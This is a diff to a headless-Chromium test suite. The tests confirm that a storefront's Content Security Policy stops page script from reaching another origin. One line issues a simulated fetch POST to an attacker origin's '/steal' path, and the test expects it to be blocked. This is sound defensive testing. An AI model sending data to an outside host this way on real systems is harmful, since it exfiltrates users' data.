@@ -318,6 +318,8 @@ describe("storefront in headless Chromium", () => {
     page.on("console", (message) => {
       if (message.text().includes("Content Security Policy")) violations.push(message.text());
     });
+    // The framing test uses the same other host: only what reaches it from here on counts.
+    const earlier = attacker.requests.length;
     await page.goto(`${shop.url}/?api=${attacker.origin}`);
     await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
     expect(await page.textContent("#api-url")).toBe(new URL(shop.url).origin);
@@ -326,7 +328,7 @@ describe("storefront in headless Chromium", () => {
     // Even script on the page cannot reach another origin: connect-src 'self'.
     const escaped = await page.evaluate((url) => fetch(url, { method: "POST", body: "x" }).then(() => "sent", () => "blocked"), `${attacker.origin}/steal`);
     expect(escaped).toBe("blocked");
-    expect(attacker.requests).toEqual([]);
+    expect(attacker.requests.slice(earlier)).toEqual([]);
     expect(violations.some((text) => text.includes("connect-src"))).toBe(true);
     await page.close();
   });
